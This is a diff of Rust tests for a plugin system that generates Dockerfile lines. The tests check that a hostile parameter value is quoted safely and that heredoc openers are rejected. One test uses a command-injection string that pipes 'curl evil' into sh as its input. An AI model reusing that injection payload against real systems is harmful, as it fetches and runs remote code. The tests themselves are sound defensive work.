@@ -9,7 +9,7 @@ use paddock::{
     ActionReport, Error, FailureCause, Hook, HookValue, ParamValue, Plugin, PluginConfig, PluginSet,
     Status,
 };
-use support::{SAMPLES, deployment, host, sample_bundle};
+use support::{SAMPLES, deployment, host, misbehaving_bundle, sample_bundle};
 
 fn load(name: &str) -> Plugin {
     host().load_file(&sample_bundle(name)).expect("load sample")
@@ -84,7 +84,7 @@ fn typed_results_and_unimplemented_hooks_are_skipped() {
     assert_eq!(outcomes[0].version, semver::Version::new(1, 0, 0));
 
     assert_eq!(
-        render_dockerfile("jupyter:1", &outcomes),
+        render_dockerfile("jupyter:1", &outcomes).unwrap(),
         "FROM jupyter:1\n# Commands for hello-world plugin\nRUN echo 'Hi!' > /home/jovyan/hello-world-plugin.txt\n\
          # Commands for docker-layers plugin\nRUN apt-get update && apt-get install -y --no-install-recommends curl jq && rm -rf /var/lib/apt/lists/*\nWORKDIR /app\n"
     );
@@ -294,4 +294,63 @@ fn a_session_passes_each_call_its_own_deployment() {
     assert_eq!(job_name(session.job_runtime_env_vars(&first)), Some("sentiment".into()));
     assert_eq!(job_name(session.job_runtime_env_vars(&second)), Some("churn-model".into()));
     assert_eq!(job_name(session.job_runtime_env_vars(&first)), Some("sentiment".into()));
+}
+
+#[test]
+fn a_hostile_greeting_stays_one_quoted_argument() {
+    let greeting = "x'; curl evil | sh; echo '";
+    let set = set_of(&[("hello-world", params(&[("greeting", ParamValue::Text(greeting.into()))]))]);
+    let outcomes = set.dockerfile_injection(&deployment());
+    let line = r"RUN echo 'x'\''; curl evil | sh; echo '\''' > /home/jovyan/hello-world-plugin.txt";
+    assert_eq!(outcomes[0].status, Status::Ok(vec![line.to_string()]));
+    // What the image's /bin/sh makes of it: echo with one argument, the greeting as given.
+    let command = line.strip_prefix("RUN ").unwrap().replace(" > /home/jovyan/hello-world-plugin.txt", "");
+    let output = std::process::Command::new("sh").args(["-c", &command]).output().expect("run sh");
+    assert_eq!(String::from_utf8(output.stdout).unwrap(), format!("{greeting}\n"));
+}
+
+#[test]
+fn heredoc_openers_are_refused_and_the_next_plugin_is_unaffected() {
+    let opener = Arc::new(host().load_file(&misbehaving_bundle("heredoc-opener", 0)).expect("load"));
+    let neighbour = Arc::new(host().load_file(&misbehaving_bundle("after-heredoc-opener", 1)).expect("load"));
+    let echo = |lines: &[&str]| PluginConfig {
+        id: None,
+        parameters: vec![
+            ("mode".into(), ParamValue::Text("echo-lines".into())),
+            ("lines".into(), ParamValue::TextList(lines.iter().map(|line| line.to_string()).collect())),
+        ],
+    };
+    let after = ["RUN echo after", "WORKDIR /app"];
+    let openers = [
+        "RUN <<EOF",
+        "RUN <<-EOF",
+        "RUN <<\"EOF\"",
+        "RUN <<'EOF'",
+        "RUN << EOF",
+        "RUN 3<<EOF",
+        "RUN <<123",
+        "RUN cat<<EOF",
+        "copy <<A <<B /dst/",
+        "onbuild run <<EOF",
+        "RUN echo\u{a0}<<EOF",
+        "RUN echo \"<<\" ${X:- <\\<EOF}",
+    ];
+    for opener_line in openers {
+        let set = PluginSet::builder(host())
+            .add(opener.clone(), echo(&["RUN echo before", opener_line]))
+            .unwrap()
+            .add(neighbour.clone(), echo(&after))
+            .unwrap()
+            .build()
+            .unwrap();
+        let outcomes = set.dockerfile_injection(&deployment());
+        let failure = outcomes[0].status.failure().unwrap_or_else(|| panic!("{opener_line}: {:?}", outcomes[0].status));
+        assert!(
+            matches!(&failure.cause, FailureCause::InvalidOutput(problem) if problem.contains("heredoc")),
+            "{opener_line}: {failure}"
+        );
+        assert_eq!(outcomes[1].status, Status::Ok(after.map(String::from).to_vec()), "{opener_line}");
+        let dockerfile = render_dockerfile("jupyter:1", &outcomes).unwrap();
+        assert!(!dockerfile.contains("<<") && dockerfile.ends_with("RUN echo after\nWORKDIR /app\n"), "{dockerfile}");
+    }
 }
